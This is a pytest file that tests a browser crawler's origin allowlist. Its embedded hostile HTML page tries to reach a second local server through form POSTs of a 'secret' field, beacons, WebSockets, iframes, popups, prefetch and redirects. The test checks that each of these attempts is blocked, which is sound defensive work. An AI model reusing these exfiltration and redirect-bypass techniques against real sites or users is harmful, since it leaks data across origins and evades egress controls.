"""The allowlist holds for every request a recorded page can make, not only fetch and images.

A hostile page on the allowed server tries every channel a page has to reach
another origin: a WebSocket, an iframe, a popup, a form POST, a stylesheet, a
beacon, a link prefetch, an EventSource, and a server-side redirect from the
allowed origin. A second local server logs what reaches it: nothing may.
(tests/crawlers/test_allowlist.py covers fetch, images and link navigation.)
"""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from crawlers.allowlist import Allowlist, filter_route
from crawlers.randomise import fixed
from crawlers.web_env import WebEnv
from schemas.actions import Action, ActionType

HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>Hostile</title>
<link rel="stylesheet" href="{other}/style.css?via=css">
<link rel="prefetch" href="{other}/prefetch?via=prefetch">
</head><body><h1>Hostile page</h1>
<p id="ws">ws: pending</p>
<iframe src="{other}/frame?via=iframe" title="outside frame"></iframe>
<img src="/redirect?to={other}/pixel%3Fvia%3Dredirect-img" alt="redirected">
<form id="f" method="post" action="{other}/collect?via=form" target="sink">
  <input name="secret" value="x"><button type="submit">Submit form</button></form>
<iframe name="sink" title="sink"></iframe>
<button id="pop" onclick="window.open('{other}/popup?via=popup')">Open popup</button>
<script>
  const say = t => document.getElementById("ws").textContent = t;
  try {{
    const ws = new WebSocket("{other_ws}/socket?via=ws");
    ws.onopen = () => say("ws: open");
    ws.onerror = () => say("ws: blocked");
    ws.onclose = () => {{ if (!document.getElementById("ws").textContent.endsWith("open")) say("ws: blocked"); }};
  }} catch (e) {{ say("ws: blocked"); }}
  navigator.sendBeacon("{other}/beacon?via=beacon", "x");
  try {{ new EventSource("{other}/events?via=eventsource"); }} catch (e) {{}}
</script></body></html>"""


class _Server:
    """127.0.0.1:<free port>: logs every request line; serves the hostile page and a redirect."""

    def __init__(self, page: str = ""):
        self.requests: list[str] = []
        log, body = self.requests, page

        class Handler(BaseHTTPRequestHandler):
            def _answer(self):
                log.append(f"{self.command} {self.path}")
                if self.path.startswith("/redirect?to="):
                    from urllib.parse import unquote

                    self.send_response(302)
                    self.send_header("Location", unquote(self.path.split("=", 1)[1]))
                    self.end_headers()
                    return
                data = (
                    self.server.page.format(
                        other=self.server.other, other_ws=self.server.other.replace("http", "ws")
                    )
                    if self.path.startswith("/hostile")
                    else b"ok"
                )
                data = data.encode() if isinstance(data, str) else data
                self.send_response(200)
                self.send_header(
                    "Content-Type", "text/html" if self.path.startswith("/hostile") else "text/plain"
                )
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = _answer

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.server.page, self.server.other = body, ""
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def servers():
    with _Server(HOSTILE) as allowed, _Server() as other:
        allowed.server.other = other.url
        yield allowed, other


@pytest.fixture(scope="module")
def browser(servers):
    """One Chromium for the module, allowed to reach the first server only."""
    with WebEnv.launch(headless=True, step_timeout_s=10.0, request_filter=Allowlist([servers[0].url])) as env:
        yield env


@pytest.fixture
def redirect_safe(browser):
    """The env with crawlers.allowlist.filter_route as its route handler (installed at
    each reset): the wiring crawlers/web_env.py needs, its own `_route` checking only
    a redirect chain's first URL."""
    browser._route = lambda route: filter_route(
        route, browser.request_filter, browser.blocked_requests, timeout_ms=browser.step_timeout_s * 1000
    )
    try:
        yield browser
    finally:
        del browser._route


def _wait(env, obs, seconds: float = 1.5):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        obs = env.step(Action(type=ActionType.WAIT, duration_ms=200))
    return obs


CHANNELS = ("css", "prefetch", "iframe", "form", "popup", "ws", "beacon", "eventsource")


@pytest.mark.slow
def test_no_channel_of_a_recorded_page_reaches_another_origin(servers, redirect_safe):
    allowed, other = servers
    env = redirect_safe
    other.requests.clear()
    obs = env.reset(f"{allowed.url}/hostile", fixed("desktop", "en"))
    assert obs.last_action_error is None, obs.last_action_error
    for name in ("Submit form", "Open popup"):
        hits = obs.find(name)
        assert hits, (name, obs.a11y_tree)
        obs = env.step(Action.tap(*hits[0].centre()))
    _wait(env, obs)
    blocked = " ".join(env.blocked_requests)
    # A navigation the crawler starts, redirected by the allowed server.
    nav = env.reset(
        f"{allowed.url}/redirect?to={other.url}/landing%3Fvia%3Dredirect-nav", fixed("desktop", "en")
    )
    assert not nav.url.startswith(other.url)
    assert f"{other.url}/landing?via=redirect-nav" in env.blocked_requests
    # A same-origin redirect still works.
    home = env.reset(f"{allowed.url}/redirect?to={allowed.url}/hostile", fixed("desktop", "en"))
    assert home.url == f"{allowed.url}/hostile" and home.last_action_error is None
    assert other.requests == [], other.requests  # nothing reached the other origin
    for via in CHANNELS:
        assert f"via={via}" in blocked, (via, env.blocked_requests)
    assert f"{other.url}/pixel?via=redirect-img" in blocked
    assert sum(r.startswith("GET /redirect") for r in allowed.requests) >= 3


@pytest.mark.slow
def test_stock_web_env_refuses_a_redirect_to_another_origin(servers, browser):
    allowed, other = servers
    other.requests.clear()
    browser.reset(
        f"{allowed.url}/redirect?to={other.url}/landing%3Fvia%3Dredirect-nav", fixed("desktop", "en")
    )
    assert other.requests == [], other.requests
